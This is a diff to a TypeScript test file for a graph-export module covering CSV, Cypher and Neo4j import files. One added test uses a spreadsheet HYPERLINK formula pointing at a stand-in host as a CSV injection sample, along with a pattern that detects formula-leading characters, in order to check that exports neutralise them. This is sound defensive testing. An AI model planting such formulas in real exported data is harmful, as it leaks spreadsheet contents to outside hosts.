@@ -6,7 +6,7 @@ import neo4j from 'neo4j-driver'
 import { afterAll, beforeAll, describe, expect, test } from 'vitest'
 import { literal } from '../../../server/graph/export/cypher.ts'
 import { type ExportFormat, exportGraph } from '../../../server/graph/export/export.ts'
-import { type Neo4jFile, neo4jFiles } from '../../../server/graph/export/neo4j-csv.ts'
+import { everyNeo4jFile, NEO4J_FILES, type Neo4jFile, neo4jFile } from '../../../server/graph/export/neo4j-csv.ts'
 import { sourceOfStore } from '../../../server/graph/export/selection.ts'
 import { openStore } from '../../../server/graph/open-store.ts'
 import type { Store } from '../../../server/graph/store.ts'
@@ -45,7 +45,7 @@ beforeAll(async () => {
   folder = await mkdtemp(join(tmpdir(), 'parley-export-'))
   store = await openStore({ engine: 'embedded', folder: join(folder, 'source') })
   await store.save(records)
-  await store.place()
+  await store.workOutPositions()
 })
 afterAll(async () => {
   await store.close()
@@ -89,6 +89,36 @@ describe('csv', () => {
     for (const row of rows.filter((each) => each[12] === 'one')) {
       expect(text?.slice(Number(row[9]), Number(row[10]))).toBe(row[8])
     }
+  })
+
+  test('asks the store for many actors together', async () => {
+    const asked: (readonly string[])[] = []
+    const watched: Store = {
+      ...store,
+      actorsWithIds: (ids) => {
+        asked.push(ids)
+        return store.actorsWithIds(ids)
+      },
+      actor: () => Promise.reject(new Error('one by one')),
+    }
+    await Array.fromAsync(exportGraph(await sourceOfStore(watched, {}), 'cypher'))
+    expect(asked.map((ids) => ids.length)).toEqual([(await store.view({})).nodes.length])
+  })
+
+  test('holds no formula that a spreadsheet would work out; what Neo4j imports stays as it is', async () => {
+    const words = '=HYPERLINK("https://example.org/?"&A1;"more")'
+    const made = await openStore({ engine: 'embedded', folder: join(folder, 'formulas') })
+    const about = { title: '+1 for peace', publisher: '@paper', publishedAt: '2025-03-07' }
+    await made.save([article('-1', [`met: [Lavrov] <met> [Martin].`, `said: [NATO] <told> {${words} [EU]}.`], about)])
+    const source = await sourceOfStore(made, {})
+    const [, ...rows] = csv((await Array.fromAsync(exportGraph(source, 'csv'))).join(''))
+    const fields = rows.flat()
+    expect(fields).toContain(`'${words} EU`)
+    expect(fields).toEqual(expect.arrayContaining(["'+1 for peace", "'@paper", "'-1"]))
+    expect(fields.filter((field) => /^[=+\-@\t\r\uff1d\uff0b\uff0d\uff20]/.test(field))).toEqual([])
+    const imported = csv((await Array.fromAsync(neo4jFile(source, 'articles.csv'))).join(''))
+    expect(imported[1]?.slice(0, 3)).toEqual(['-1', '+1 for peace', '@paper'])
+    await made.close()
   })
 
   test.each<[ViewQuery, number]>([
@@ -165,7 +195,26 @@ describe.each(['graphml', 'gexf'] as const)('%s', (format) => {
 
 describe('files for neo4j-admin', () => {
   const rowsOf = async (file: Neo4jFile) =>
-    csv((await Array.fromAsync(neo4jFiles[file](await sourceOfStore(store, {})))).join(''))
+    csv((await Array.fromAsync(neo4jFile(await sourceOfStore(store, {}), file))).join(''))
+
+  test('are written together as each alone, and every article is read once', async () => {
+    let passes = 0
+    const source = await sourceOfStore(
+      {
+        ...store,
+        articleIds: (after, limit) => {
+          passes += 1
+          return store.articleIds(after, limit)
+        },
+      },
+      {},
+    )
+    const files = new Map<Neo4jFile, string>(NEO4J_FILES.map((file) => [file, '']))
+    for await (const { file, text } of everyNeo4jFile(source)) files.set(file, `${files.get(file)}${text}`)
+    expect(passes).toBe(1)
+    for (const [file, text] of files)
+      expect(text, file).toBe((await Array.fromAsync(neo4jFile(await sourceOfStore(store, {}), file))).join(''))
+  })
 
   test('hold every node and relationship once, under the heads that it wants', async () => {
     const counts = {
